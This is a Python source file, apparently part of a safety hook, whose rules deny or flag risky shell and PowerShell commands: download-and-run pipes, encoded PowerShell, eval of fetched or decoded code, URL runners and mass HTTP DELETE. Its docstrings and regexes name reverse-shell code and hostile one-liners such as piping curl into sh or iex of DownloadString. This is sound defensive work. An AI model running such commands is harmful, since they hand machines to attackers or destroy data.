"""Rule family: remote and hidden code. Download-and-run, interpreter code that runs fetched or
decoded code, runners whose program is a URL, shells running code the command does not show, a
script downloaded and run in the same command, shells wired to the network, HTTP ``DELETE`` of
everything."""

from __future__ import annotations

import os
import re

import _shell
from _common import Finding
from _shell import Cmd, Word, lazy_compile

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable

    from _shell import Ctx

# PowerShell's eval: runs the text it is given or piped.
_PS_EVAL = frozenset({"iex", "invoke-expression"})
# PowerShell code that evaluates text it downloads: iex (New-Object Net.WebClient).DownloadString(…),
# Invoke-Expression (irm …), & ([scriptblock]::Create((iwr …).Content)).
_PS_RUNS_FETCHED = lazy_compile(
    r"(?is)(?:\b(?:iex|invoke-expression)\b|scriptblock\]::create).{0,200}?"
    r"(?:\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)\b|downloadstring|downloaddata|webclient)"
    r"|(?:\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b|downloadstring).{0,300}?\|\s*(?:iex|invoke-expression)\b"
)


def _powershell(cmd: Cmd, found: list[Finding]) -> None:
    """``pwsh -EncodedCommand …`` (code nobody can read) and ``-Command`` text that evaluates a
    download (``iex (New-Object Net.WebClient).DownloadString(…)``)."""
    texts, encoded = _shell.powershell_code(cmd)
    if encoded:
        found.append(
            (
                "deny",
                f"`{cmd.display}` runs a base64-encoded PowerShell command, which cannot be reviewed. "
                "Run the plain -Command text instead.",
            )
        )
    elif any(_PS_RUNS_FETCHED.search(text) for text in texts):
        found.append(
            (
                "deny",
                f"`{cmd.display}` evaluates PowerShell code downloaded from the network without review. "
                "Download the script to a file, read it, then run it.",
            )
        )


_HIDDEN_SOURCES = _shell.DECODERS | _shell.DOWNLOADERS

# PowerShell's eval (or a script block made from text) standing where a command starts:
# "iex (…)", "; Invoke-Expression …", "& ([scriptblock]::Create(…))".
_PS_EVAL_AT_COMMAND = lazy_compile(
    r"(?im)(?:^|[;|&({]|\bthen\b|\bdo\b)\s*(?:iex|invoke-expression|&\s*\(*\s*\[scriptblock\]::create)\b"
)


# $s = iwr URL; … iex $s.Content: a PowerShell variable holding a download, evaluated later.
_PS_FETCHED_VAR = lazy_compile(
    r"(?is)\$(?P<var>\w+)\s*=\s*(?:\(\s*)?(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget|"
    r"\(?\s*new-object\s+(?:system\.)?net\.webclient\s*\)?\s*\.downloadstring)\b.*?"
    r"(?:\biex|\binvoke-expression|scriptblock\]::create)\s*\(*\s*\$(?P=var)\b"
)


# …whose argument, in the same statement, is what iwr/irm/WebClient fetched. ("iex -S mix" is
# Elixir's shell: iex must be followed by its argument's "(", "$" or quote.)
_PS_EVAL_OF_FETCH = lazy_compile(
    r"(?i)(?:(?:iex|invoke-expression)\s*[($\"']|\[?scriptblock\]::create)[^;&|\n]{0,200}?"
    r"(?:\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)\b|downloadstring|downloaddata|webclient)"
)


def _unquoted_at(text: str, end: int) -> bool:
    """Whether position ``end`` of ``text`` lies outside quotes (a command position, not data
    such as an echo's or a commit message's text)."""
    quote = ""
    i = 0
    while i < end:
        c = text[i]
        if c == "\\" and quote != "'":
            i += 2
            continue
        if quote:
            quote = "" if c == quote else quote
        elif c in "'\"":
            quote = c
        i += 1
    return not quote


def rule_powershell_line(line: str, found: list[Finding]) -> None:
    """A command line that is PowerShell, not bash (``iex (iwr URL).Content``, ``iex
    ((New-Object Net.WebClient).DownloadString(URL))``): bash cannot parse the call, so the
    walker sees no ``iex`` command, but the text evaluates a download all the same. An
    ``iex``/``Invoke-Expression``/script block at a command position, outside quotes, whose
    argument fetches from the network is denied; quoted text (an echo, a grep pattern, a commit
    message) stays data."""
    lower = line.lower()
    if "iex" not in lower and "invoke-expression" not in lower and "scriptblock" not in lower:
        return  # cheap test first: most lines never compile the patterns
    for m in _PS_EVAL_AT_COMMAND.finditer(line):
        start = m.end() - len(m.group().lstrip(";|&({ \t\n"))
        if _unquoted_at(line, start) and _PS_EVAL_OF_FETCH.match(line, start):
            found.append(
                (
                    "deny",
                    f"`{line[start : start + 80].strip()}` evaluates PowerShell code downloaded from the network "
                    "without review. Download the script to a file, read it, then run it.",
                )
            )
            return
    fetched_var = _PS_FETCHED_VAR.search(line)
    if fetched_var is not None and _unquoted_at(line, fetched_var.start()):
        found.append(
            (
                "deny",
                f"`{fetched_var.group()[:80]}` evaluates a PowerShell script downloaded into "
                f"${fetched_var.group('var')} without review. Save it to a file, read it, then run it.",
            )
        )


def rule_download_exec(cmd: Cmd, found: list[Finding]) -> None:
    """curl … | sh, bash <(curl …), sh -c "$(curl …)", eval "$(… | base64 -d)", irm … | iex."""
    name = cmd.name
    if name in _shell.POWERSHELLS:
        _powershell(cmd, found)
    runs_code = name in _shell.SHELLS or name in _shell.INTERPRETERS or name in _PS_EVAL or name in ("source", ".")
    if runs_code and cmd.xargs and cmd.stage > 0 and set().union(*cmd.stage_names[: cmd.stage]) & _shell.DOWNLOADERS:
        inline, _stdin, _file = _shell.shell_invocation(cmd.args) if name in _shell.SHELLS else (None, False, None)
        lits = [w.literal() or "" for w in cmd.args]
        script = (inline.literal() or "") if inline is not None else ""
        placeholder = bool(cmd.replace) and script.split()[:1] == [cmd.replace]
        if (name in _shell.SHELLS and ((inline is None and "-c" in lits) or placeholder)) or (
            name in _shell.INTERPRETERS and lits[-1:] in (["-c"], ["-e"])
        ):
            # curl … | xargs -0 bash -c, curl … | xargs -I{} sh -c '{}': the download is the code.
            found.append(
                (
                    "deny",
                    f"`{name}` runs text downloaded on the spot, handed over by xargs, which nobody has "
                    "reviewed. Download it to a file, read it, then run it.",
                )
            )
    if runs_code and (cmd.stage > 0 or cmd.stdin_sources) and _reads_code_from_stdin(cmd):
        upstream: set[str] = set(cmd.stdin_sources)
        for stage in cmd.stage_names[: cmd.stage]:
            upstream |= stage
        if upstream & _shell.DOWNLOADERS:
            found.append(
                (
                    "deny",
                    f"piping a download into `{name}` runs unreviewed remote "
                    "code. Download the script to a file, read it, then run it.",
                )
            )
        elif upstream & _shell.DECODERS:
            found.append(
                (
                    "deny",
                    f"piping decoded/obfuscated data into `{name}` runs code "
                    "that cannot be reviewed. Run the plain command instead.",
                )
            )
        elif cmd.stage > 0 and name in _shell.SHELLS and cmd.stdin_text is None and _test_data_fed(cmd):
            found.append(_runs_test_data(cmd, _test_data_fed(cmd) or ""))
        elif cmd.stage > 0 and name in _shell.SHELLS and cmd.stdin_text is None:
            # grep … docs | sh, sed … <<< '…' | bash: the commands are produced by the pipeline,
            # so nobody (hook or user) sees them before they run.
            found.append(
                (
                    "ask",
                    f"piping generated text into `{name}` runs commands nobody has read. Print them "
                    "first, review them, then run them directly.",
                )
            )
    if runs_code or name in ("eval", "source", "."):
        for word in cmd.args:
            # $(curl …) in the arguments, or a variable that holds such output (x=$(…); eval "$x").
            produced = [_shell.names_in(sub.script, cmd.ctx) for sub in word.subs()]
            produced += [cmd.ctx.sources.get(p.name, set()) for p in word.parts if isinstance(p, _shell.Var)]
            for inner in produced:
                if inner & _shell.DOWNLOADERS:
                    found.append(
                        (
                            "deny",
                            f"`{cmd.display}` runs code fetched from the network "
                            "without review. Download it to a file and read it first.",
                        )
                    )
                elif inner & _shell.DECODERS:
                    found.append(
                        ("deny", f"`{cmd.display}` runs decoded/obfuscated code. Run the plain command instead.")
                    )
    if name in ("make", "gmake", "just", "task") or runs_code:
        # make -f <(curl …), python3 <(curl …): a downloaded file handed over as the program.
        for word in cmd.args:
            for sub in word.subs():
                if sub.kind == "<(" and _shell.names_in(sub.script, cmd.ctx) & _shell.DOWNLOADERS:
                    found.append(
                        (
                            "deny",
                            f"`{cmd.display}` runs a file downloaded on the spot, which nobody has "
                            "reviewed. Download it to a file, read it, then run it.",
                        )
                    )
                    return
    head = cmd.argv[0].parts if cmd.argv else []
    held = head[0] if len(head) == 1 and isinstance(head[0], _shell.Var) else None
    # a=$(… | base64 -d); $a: the command itself is decoded or downloaded text.
    if not cmd.name and held is not None and cmd.ctx.sources.get(held.name, set()) & _HIDDEN_SOURCES:
        found.append(
            (
                "deny",
                f"`{cmd.display}`: the command to run is decoded or downloaded text held in "
                f"${held.name}; run the plain command instead.",
            )
        )
    if cmd.argv and not cmd.name:
        for sub in cmd.argv[0].subs():
            inner = _shell.names_in(sub.script, cmd.ctx)
            if inner & (_shell.DECODERS | _shell.DOWNLOADERS):
                found.append(
                    (
                        "deny",
                        f"`{cmd.display}`: the program to run is computed by "
                        "decoding or downloading; run the plain command instead.",
                    )
                )


_CODE_REVERSE_SHELL = lazy_compile(
    r"socket.{0,400}?connect.{0,400}?(?:dup2|pty\.spawn|/bin/(?:ba)?sh|cmd\.exe|spawn\(\s*[\"'](?:/bin/)?(?:ba)?sh)",
    re.S,
)
_CODE_RUNS_FETCHED = lazy_compile(
    # exec/eval of code whose text is decoded or downloaded on the spot (Perl and Ruby call
    # eval without parentheses: eval get("https://…"), eval pack("H*", …)).
    r"(?<!json\.)(?<!yaml\.)(?<!toml\.)\b(?:exec|eval|Function|instance_eval|class_eval|load|"
    r"runInThisContext|runInNewContext)"
    r"(?:\s*\(|\s+(?=[\w:$@]))(?=[^;\n]*(?:b64decode|b32decode|decodebytes|fromhex|unhexlify|"
    r"urlopen|requests\.get|httpx\.get|urllib|fetch\(|Buffer\.from|atob\(|unpack\(|\bpack\(|decode\(|zlib|"
    r"file_get_contents\(\s*[\"']https?:|Net::HTTP|URI\.open|\bopen\(\s*[\"']https?:|LWP|\bget\(\s*[\"']https?:|"
    r"HTTParty|Faraday|curl_exec|[(,]\s*[\"']https?://))"
    # R and others that run a script straight from a URL: source("https://…"), source_url(…).
    r"|\b(?:source|source_url|sys\.source|load|require|import)\s*\(\s*[\"']https?://"
    # …or the other way round: the download's text handed on to eval (fetch(u).then(r => r.text()).then(eval)).
    r"|\b(?:fetch|urlopen|requests\.get|https?\.get|axios\.get|file_get_contents)\s*\([^;\n]{0,300}?"
    r"\.then\(\s*(?:eval|Function|[\w\s,()]*=>\s*eval)\b"
    # …or in the download's callback: https.get(u, r => { …; r.on("end", () => eval(body)) }).
    r"|(?:\.(?:get|request)|\b(?:request|got|needle))\s*\(\s*[\"'`]https?://[^\n]{0,400}?"
    r"\b(?:eval|new\s+Function|runInThisContext|runInNewContext)\s*\("
)


# A shell call (os.system, subprocess, execSync) whose command line is decoded or downloaded in
# its own argument; plain .decode() of a call's output is ordinary.
_CODE_SHELLS_FETCHED = lazy_compile(
    r"\b(?:system|popen|Popen|run|call|check_output|check_call|getoutput|execSync|spawnSync|shell_exec|"
    r"passthru)\s*\(\s*[^;\n]{0,200}?(?:b64decode|b32decode|decodebytes|urlopen|requests\.get|atob|"
    r"Buffer\.from|fromhex|unhexlify|\bpack|decode_base64)\s*\("
)


def rule_code_runs_fetched(cmd: Cmd, found: list[Finding]) -> None:
    """``python -c "exec(b64decode(…))"``, ``exec(urlopen(…).read())``: hidden or remote code."""
    if cmd.name not in _shell.INTERPRETERS:
        return
    for code in _shell.code_of(cmd):
        if _CODE_REVERSE_SHELL.search(code):
            found.append(
                (
                    "deny",
                    f"`{cmd.display}` opens a reverse shell (a network connection wired to a "
                    "shell), handing the machine to whoever listens. Do not run it.",
                )
            )
            return
        if _CODE_RUNS_FETCHED.search(code) or _CODE_SHELLS_FETCHED.search(code):
            found.append(
                (
                    "deny",
                    f"`{cmd.display}` executes code it decodes or downloads, which cannot be "
                    "reviewed. Run the plain code instead.",
                )
            )
            return


# A program operand that names code on the network rather than a file or registry package.
_URL_OPERAND = lazy_compile(r"^(?:https?://|git\+|git://|(?:github|gitlab|bitbucket):)", re.IGNORECASE)
# Runners whose subcommand takes a script or package to run: deno run URL, pnpm dlx URL …
_URL_RUNNERS = {
    "deno": ("run",),
    "bun": ("run", "x"),
    "pnpm": ("dlx", "exec"),
    "yarn": ("dlx",),
    "npm": ("exec", "x"),
    "pipx": ("run",),
}


# Nix subcommands that run or install what a flake reference names (nix build only builds).
_NIX_RUNS = frozenset({"run", "shell", "develop"})
# The Nix project's own flakes (nixpkgs and friends) are the distribution, not someone's code.
_OFFICIAL_FLAKE = lazy_compile(r"(?i)^(?:github|gitlab):(?:NixOS|nix-community)/")


def _nix_installables(cmd: Cmd) -> list[Word]:
    """``nix run github:u/r``, ``nix shell git+https://…#x``, ``nix profile install github:u/r``:
    the flake references whose code is run or installed (``nix run nixpkgs#jq`` is the registry)."""
    _flags, positionals, _values = _shell.split_options(cmd.args, frozenset({"--override-input", "-c", "--command"}))
    lits = [w.literal() for w in positionals]
    if lits[:1] and lits[0] in _NIX_RUNS:
        return positionals[1:] if lits[0] != "run" else positionals[1:2]
    if lits[:2] in (["profile", "install"], ["profile", "add"]):
        return positionals[2:]
    return []


def rule_runs_url(cmd: Cmd, found: list[Finding]) -> None:
    """``npx https://gist…/run.js``, ``deno run https://…/x.ts``, ``uv run https://…/s.py``,
    ``pnpm dlx github:user/repo``, ``nix run github:user/repo``, ``brew install https://…/x.rb``:
    the program run is whatever the URL serves at that moment."""
    words = cmd.argv[:1]  # npx/bunx/uv run unwrap to the URL itself as the program word
    if cmd.name in _URL_RUNNERS:
        _flags, positionals, _values = _shell.split_options(cmd.args, frozenset({"-p", "--package", "--spec"}))
        lits = [w.literal() for w in positionals]
        if lits and lits[0] in _URL_RUNNERS[cmd.name]:
            words = positionals[1:2]
        elif cmd.name in ("deno", "bun"):
            words = positionals[:1]
    if cmd.name in ("uvx", "pipx", "uv"):
        # uvx --from git+https://… tool, pipx run --spec URL: the package the tool comes from.
        _flags, _pos, values = _shell.split_options(cmd.args, frozenset({"--from", "--spec", "--with"}))
        words = [*words, *values.get("from", []), *values.get("spec", []), *values.get("with", [])]
    if cmd.name == "nix":
        words = _nix_installables(cmd)
    elif cmd.name == "brew":
        # brew install https://…/tool.rb: the formula is Ruby that runs during the install.
        _flags, positionals, _values = _shell.split_options(cmd.args)
        if [w.literal() for w in positionals[:1]] in (["install"], ["reinstall"]):
            words = positionals[1:]
    for word in words:
        url = next((v for v in cmd.values(word) or [word.text] if _URL_OPERAND.match(v)), None)
        if url is not None and not _OFFICIAL_FLAKE.match(url):
            found.append(
                (
                    "deny",
                    f"`{cmd.display}` runs code fetched from {url}, which nobody has reviewed and can "
                    "change at any time. Download it, read it, and run the local copy instead.",
                )
            )
            return


# Package managers' install verbs: a package named by a plain web address is an archive from
# wherever that address points, and installing it runs its build or install scripts.
_INSTALL_VERBS: dict[str, frozenset[str]] = {
    "pip": frozenset({"install"}),
    "pip3": frozenset({"install"}),
    "uv": frozenset({"install", "add"}),
    "pipx": frozenset({"install", "inject"}),
    "poetry": frozenset({"add"}),
    "npm": frozenset({"install", "i", "add"}),
    "pnpm": frozenset({"install", "i", "add"}),
    "yarn": frozenset({"add"}),
    "bun": frozenset({"install", "i", "add"}),
    "gem": frozenset({"install"}),
}
# Hosts that serve packages their registries or projects publish (PyPI's files, PyTorch's wheel
# index, source forges' release archives): installing from them is an ordinary install.
_PACKAGE_HOSTS = lazy_compile(
    r"(?i)^https://(?:[\w-]+\.)*(?:pythonhosted\.org|pypi\.org|pytorch\.org|npmjs\.org|rubygems\.org"
    r"|github\.com|githubusercontent\.com|gitlab\.com|bitbucket\.org)(?::\d+)?/"
)


def rule_url_package(cmd: Cmd, found: list[Finding]) -> None:
    """``pip install https://files.example.net/tool-0.3.tar.gz``, ``npm i -g https://…/tool.tgz``:
    a package from an arbitrary web address, not a registry or a source forge, runs its setup
    code on install (warn). A git hook or job that does it runs it unattended (denied there)."""
    name = cmd.name
    verbs = _INSTALL_VERBS.get(name)
    if verbs is None:
        return
    _flags, positionals, _values = _shell.split_options(
        cmd.args, frozenset({"-i", "--index-url", "--extra-index-url", "-r", "--requirement", "-c", "--registry"})
    )
    lits = [w.literal() or "" for w in positionals]
    if name == "uv" and lits[:1] == ["pip"]:
        lits = lits[1:]
    if not lits or lits[0] not in verbs:
        return
    for value in lits[1:]:
        if re.match(r"(?i)(?:https?|ftp)://", value) and not _PACKAGE_HOSTS.match(value):
            found.append(
                (
                    "ask",
                    f"`{cmd.display}` installs a package from {value}, an address outside the package "
                    "registries; its setup code runs on install. Confirm the source, or install the "
                    "package from the registry.",
                )
            )
            return


# Programs that pick part of a file: their output run as code is a fragment nobody sees (a whole
# file through cat runs like the script itself, which is ordinary).
_TEXT_READERS = frozenset({"jq", "yq", "grep", "egrep", "sed", "awk", "gawk", "head", "tail", "cut"})


# Files that hold prose or data, not a script: their text run as commands is a fragment nobody
# reviewed as code (docs/setup.md, notes/cmds.txt, ops/runbook.rst).
_DOC_EXTENSIONS = frozenset({
    ".txt", ".md", ".mdx", ".rst", ".adoc", ".notes", ".note", ".log", ".json", ".yaml", ".yml",
    ".csv", ".html", ".org", ".text", ".snippet", ".snippets",
})  # fmt: skip


def _file_text_source(word: Word, ctx: _shell.Ctx) -> bool:
    """``"$(jq -r .scripts.x package.json)"``, ``<(grep -v '^#' ops.cmds)``, ``"$(cat notes.txt |
    sed 's/^# //')"``, ``"$(cat docs/setup.md)"``: the word's text is picked out of a file by a
    text tool at any stage, or is a document's text (an env file of assignments excepted:
    loading it is routine; a whole script through cat runs like the script itself)."""
    for sub in word.subs():
        stages = [c for p in sub.script.pipelines for c in p.commands if c.words]
        if not stages:
            continue
        first = [w.literal() or "" for w in stages[0].words]
        names = [os.path.basename(c.words[0].literal() or "") for c in stages]
        if names[0] not in _TEXT_READERS and names[0] != "cat":
            continue  # a tool's own output (ssh-agent -s, brew shellenv) or a download, judged elsewhere
        operands = [a for a in first[1:] if a and not a.startswith("-")]
        if any(".env" in os.path.basename(a) or a.endswith(".env") for a in operands):
            continue
        if any(n in _TEXT_READERS for n in names):
            return True
        if names[0] == "cat" and any(os.path.splitext(a)[1].lower() in _DOC_EXTENSIONS for a in operands):
            return True
    return False


# PowerShell's eval of a file's text: iex (Get-Content x -Raw), gc x | Invoke-Expression,
# iex ([IO.File]::ReadAllText('x')) — the sh -c "$(cat x)" of PowerShell.
_PS_EVAL_FILE = lazy_compile(
    r"(?i)\b(?:iex|invoke-expression)\b[\s(]*(?:\$\(\s*)?(?:get-content|gc|cat|type)\b|"
    r"\b(?:get-content|gc|cat|type)\b[^|;\n]*\|\s*(?:iex|invoke-expression)\b|"
    r"\b(?:iex|invoke-expression)\b[^;\n]*\[(?:system\.)?io\.file\]::readall(?:text|lines)"
)


# A shell's input that is nothing but variables the command line never set (words_text writes
# an unresolved variable as ${NAME}).
_HELD_SCRIPT = lazy_compile(r"\s*(?:\$\{\w+\}\s*)+")


# Test data and attack samples: fixture and corpus folders, files named as payloads.
_TEST_DATA = lazy_compile(
    r"(?i)(?:^|/)(?:fixtures?|testdata|test_data|__fixtures__|corpus|payloads?)/"
    r"|(?:^|/)[^/]*(?:payload|malicious|dangerous|exploit|revshell|reverse_shell|evil)[^/]*$"
)


def _test_data_fed(cmd: Cmd) -> str | None:
    """The test-data file whose text reaches ``cmd`` on its input (``cat tests/fixtures/x.txt |
    bash``, ``xargs -I{} sh -c '{}' < spec/fixtures/cmds.txt``, ``grep … corpus/bad.yml | … |
    sh``), if any: a file read by an earlier stage or redirected in."""
    words = [r.target for r in cmd.redirects if r.op == "<" and r.target is not None]
    stage = cmd.prev
    while stage is not None:
        words += [w for w in stage.args if not (w.literal() or "").startswith("-")]
        stage = stage.prev
    for word in words:
        for value in cmd.values(word) or []:
            if _TEST_DATA.search(value):
                return value
    return None


def _runs_test_data(cmd: Cmd, path: str) -> Finding:
    return (
        "deny",
        f"`{cmd.display}` runs the text of {path} as commands; test fixtures and samples hold "
        "dangerous commands as data, to be checked, never run. Run the specific command meant, written out.",
    )


def rule_hidden_code(cmd: Cmd, found: list[Finding]) -> None:
    """``bash -c "$CMD"``, ``eval "$line"`` (from ``read``), ``xargs -I{} sh -c '{}'``, ``sh -c
    "$(jq -r .scripts.x package.json)"``: a shell runs code the call does not show — a variable
    set elsewhere, each line of some input, or text read out of a file."""
    head = cmd.argv[0].parts if cmd.argv else []
    first = head[0] if len(head) == 1 else None
    if not cmd.name and isinstance(first, _shell.Var) and "read" in cmd.ctx.sources.get(first.name, set()):
        found.append(
            (
                "ask",
                f"`{cmd.display}` runs each line read from its input as a command, which the call does not "
                "show; confirm, or run the commands themselves so they can be checked.",
            )
        )
        return
    if cmd.name in ("source", ".") and cmd.args and _file_text_source(cmd.args[0], cmd.ctx):
        scripts: list[Word] = [cmd.args[0]]
    elif cmd.name in _shell.SHELLS:
        script, _stdin, script_file = _shell.shell_invocation(cmd.args)
        held = _HELD_SCRIPT.fullmatch(cmd.stdin_text or "")
        if script is None and held and _reads_code_from_stdin(cmd):
            # echo "$PAYLOAD" | bash, sh <<< "$STEPS": the script is a variable set elsewhere.
            found.append(
                (
                    "ask",
                    f"`{cmd.display}` runs code held in {held.group().strip()} on its input, which the "
                    "command does not show; confirm, or run the commands themselves so they can be checked.",
                )
            )
            return
        if (
            script is None
            and cmd.xargs
            and cmd.stdin_text is None
            and any(re.fullmatch(r"-[a-z]*c[a-z]*", w.literal() or "") for w in cmd.args)
        ):
            # xargs -L1 sh -c < steps.txt: with no script word, each input line becomes the script.
            found.append(
                (
                    "ask",
                    f"`{cmd.display}` (under xargs) runs each line of its input as a command, which the "
                    "call does not show; confirm, or run the commands themselves so they can be checked.",
                )
            )
            return
        # bash <(grep … notes.txt): the script file is text picked out of a file on the spot.
        scripts = [script] if script is not None else [script_file] if script_file is not None else []
    elif cmd.name == "eval":
        scripts = list(cmd.args)
    else:
        if cmd.name in _shell.POWERSHELLS and any(_PS_EVAL_FILE.search(t) for t in _shell.powershell_code(cmd)[0]):
            found.append(
                (
                    "ask",
                    f"`{cmd.display}` evaluates text read out of a file (Invoke-Expression of Get-Content), "
                    "which the command does not show; confirm, or run the commands themselves so they can be checked.",
                )
            )
        return
    for word in scripts:
        text = word.literal()
        if cmd.replace and text is not None and text.split()[:1] == [cmd.replace]:
            data = _test_data_fed(cmd)
            if data is not None:
                found.append(_runs_test_data(cmd, data))
                return
            what = "each line of its input as a command"
        elif _file_text_source(word, cmd.ctx):
            what = "text read out of a file, which the command does not show"
        elif (
            word.parts
            and all(isinstance(p, _shell.Var) or (isinstance(p, _shell.Lit) and not p.text.strip()) for p in word.parts)
            and cmd.values(word) is None
        ):
            names = ", ".join("$" + p.name for p in word.parts if isinstance(p, _shell.Var))
            what = f"code held in {names}, which the command does not show"
        else:
            continue
        found.append(
            (
                "ask",
                f"`{cmd.display}` runs {what}; confirm, or run the commands themselves so they can be checked.",
            )
        )
        return


_STDIN_FILES = frozenset({"-", "/dev/stdin", "/proc/self/fd/0", "/dev/fd/0"})


def _shell_noexec(cmd: Cmd) -> bool:
    """``bash -n``, ``sh -nv``, ``zsh --noexec``, ``bash -o noexec``: the shell only parses the
    script (a syntax check) and runs none of it."""
    words = [w.literal() for w in cmd.args]
    for i, lit in enumerate(words):
        if lit is None or not lit.startswith("-") or lit in ("-", "--"):
            return False
        if lit in ("--noexec", "--no-execute") or (lit[1] != "-" and "n" in lit[1:] and "c" not in lit[1:]):
            return True
        if lit == "-o" and words[i + 1 : i + 2] == ["noexec"]:
            return True
    return False


def _reads_code_from_stdin(cmd: Cmd) -> bool:
    if cmd.name in _shell.SHELLS:
        if _shell_noexec(cmd):
            return False
        _inline, reads_stdin, script_file = _shell.shell_invocation(cmd.args)
        return reads_stdin or (script_file is not None and script_file.literal() in _STDIN_FILES)
    if cmd.name in ("source", "."):
        # fish's "curl … | source", bash's "source /dev/stdin".
        return not cmd.args or cmd.args[0].literal() in _STDIN_FILES
    for word in cmd.args:
        lit = word.literal()
        if lit is None or not lit.startswith("-") or lit in ("-m", "-c", "-e", "-E", "--eval"):
            return lit == "-"
    return True


def _downloaded_file(cmd: Cmd) -> str | None:
    """The file a download or a decoding pipeline writes: ``curl -o x``, ``wget URL`` (named
    after the URL), ``curl -O URL``, ``… | base64 -d > run.sh``, ``… | tee x.sh``."""
    flags, positionals, values = _shell.split_options(
        cmd.args, frozenset({"-o", "--output", "-O", "--output-document"} if cmd.name == "wget" else {"-o", "--output"})
    )
    outs = values.get("o", []) + values.get("output", []) + values.get("output-document", [])
    if cmd.name == "wget":
        outs += values.get("O", [])
    if cmd.name == "tee":
        outs += [w for w in cmd.args if not (w.literal() or "").startswith("-")]
    for word in outs:
        got = cmd.values(word)
        if got and got[0] not in ("-", "/dev/stdout"):
            return os.path.basename(got[0])
    for r in cmd.redirects:
        if r.op in (">", ">>") and r.fd in ("", "1") and r.target is not None:
            got = cmd.values(r.target)
            if got:
                return os.path.basename(got[0])
    remote_name = cmd.name == "wget" or "O" in flags or "remote-name" in flags
    if cmd.name in _shell.DOWNLOADERS and remote_name and not outs:
        urls = [v for w in positionals for v in (cmd.values(w) or []) if "://" in v]
        if urls:
            return os.path.basename(urls[0].split("?")[0].rstrip("/")) or None
    return None


# Where a script's text comes from if nobody can have read it: the network, or an encoding
# (tr -d '\r' or gunzip of a project file are ordinary conversions).
_HIDERS = _shell.DOWNLOADERS | frozenset({"base64", "base32", "xxd", "uudecode"})


_FILE_RUNNERS = frozenset({
    "jupyter", "papermill", "ipython", "ansible-playbook", "make", "gmake", "just", "rake",
    "vagrant", "packer", "docker-compose", "podman-compose", "helm", "kubectl", "terraform",
})  # fmt: skip


_EXTRACTORS = frozenset({"tar", "bsdtar", "gtar", "unzip", "7z", "7za"})


def _extracted_into(cmd: Cmd, downloaded: set[str]) -> str | None:
    """The folder an archive is unpacked into when the archive is a download: ``curl … | tar xz
    -C bin``, ``unzip tool.zip`` after ``curl -LO …/tool.zip`` (None for other archives)."""
    if cmd.name not in _EXTRACTORS or cmd.ctx.cwd is None:
        return None
    upstream = set(cmd.stdin_sources).union(*cmd.stage_names[: cmd.stage]) if cmd.stage_names else set()
    names = {os.path.basename(w.literal() or "").lower() for w in cmd.args}
    if not (upstream & _shell.DOWNLOADERS or names & {d.lower() for d in downloaded}):
        return None
    _flags, _pos, values = _shell.split_options(cmd.args, frozenset({"-C", "--directory", "-d", "-f", "--file"}))
    into = values.get("C") or values.get("directory") or (values.get("d") if cmd.name == "unzip" else None)
    got = cmd.values(into[0]) if into else ["."]
    return _shell.normalize(got[0], cmd.ctx.cwd) if got else None


def _runs_from(cmd: Cmd, folders: list[str]) -> bool:
    """Whether the program of ``cmd`` is a path inside one of ``folders`` (./tool, bin/x)."""
    program = cmd.argv[0].literal() if cmd.argv else None
    if not program or "/" not in program or cmd.ctx.cwd is None:
        return False
    path = _shell.normalize(program, cmd.ctx.cwd)
    return path is not None and any(_shell.is_within(path, f) for f in folders)


def rule_download_then_run(cmds: list[Cmd], found: list[Finding]) -> None:
    """A script written by a download or a decoder and run later in the same command, also a
    program unpacked from a downloaded archive (``curl -L …tgz | tar xz && ./tool install``)."""
    downloaded: set[str] = set()
    unpacked: list[str] = []
    for cmd in cmds:
        if unpacked and _runs_from(cmd, unpacked):
            found.append(
                (
                    "deny",
                    f"`{cmd.display}` runs a program unpacked from an archive downloaded in the same "
                    "command, before anyone checked it. Download and verify it first, then run it.",
                )
            )
            return
        folder = _extracted_into(cmd, downloaded)
        if folder is not None:
            unpacked.append(folder)
        upstream = set(cmd.stdin_sources).union(*cmd.stage_names[: cmd.stage]) if cmd.stage_names else set()
        if cmd.name in _HIDERS or upstream & _HIDERS:
            target = _downloaded_file(cmd)
            if target:
                downloaded.add(target)
            if cmd.name in _shell.DOWNLOADERS:
                continue
        if not downloaded:
            continue
        runs = {cmd.name} if cmd.name else set()
        if cmd.name in _FILE_RUNNERS:
            # jupyter nbconvert --execute nb.ipynb, ansible-playbook site.yml, make -f x.mk: the
            # tool runs the file it is given, wherever it stands.
            runs |= {os.path.basename(w.literal() or "") for w in cmd.args}
        if cmd.name in _shell.SHELLS or cmd.name in _shell.INTERPRETERS or cmd.name in ("source", "."):
            # The script is the first operand; later ones are its data (python3 process.py data.json).
            script = next((w for w in cmd.args if not (w.literal() or "").startswith("-")), None)
            if script is not None:
                runs.add(os.path.basename(script.literal() or ""))
        if {r.lower() for r in runs} & {d.lower() for d in downloaded}:
            found.append(
                (
                    "deny",
                    f"`{cmd.display}` runs a script downloaded in the same command, before "
                    "anyone reviewed it. Download it in one command, read it, then run it.",
                )
            )


# A repository itself through a forge's REST API (not a branch, issue or file under it): GitHub's
# /repos/OWNER/REPO, GitLab's /api/v4/projects/ID, Gitea/Forgejo's /api/v1/repos/OWNER/REPO,
# Bitbucket's /2.0/repositories/WORKSPACE/REPO.
_HOSTED_REPO_URL = lazy_compile(
    r"^(?:\w+://)?[^/]+(?:/api/v3|/api/v1)?/repos/[^/?#]+/[^/?#]+/?(?:[?#]|$)"
    r"|/api/v4/projects/[^/?#]+/?(?:[?#]|$)|/2\.0/repositories/[^/?#]+/[^/?#]+/?(?:[?#]|$)"
)


def rule_http_delete(cmd: Cmd, found: list[Finding]) -> None:
    """``curl -X DELETE localhost:9200/_all``: every index of a search/data service at once."""
    if cmd.name not in ("curl", "http", "https", "xh", "wget"):
        return
    _flags, positionals, values = _shell.split_options(cmd.args, frozenset({"-X", "--request", "--method"}))
    methods = [(cmd.values(w) or [w.text])[0].upper() for k in ("X", "request", "method") for w in values.get(k, [])]
    methods += [p.literal() or "" for p in positionals[:1] if (p.literal() or "") in ("DELETE", "delete")]
    if any("_delete_by_query" in (cmd.values(w) or [w.text])[0] for w in positionals):
        body = " ".join(" ".join(cmd.values(w) or [w.text]) for w in cmd.args)
        if re.search(r"match_all|/_all/|/\*/", body):
            found.append(
                (
                    "deny",
                    f"`{cmd.display}` deletes every document (delete-by-query matching all). Use a query "
                    "that selects the documents meant, or ask the user to run it.",
                )
            )
        return
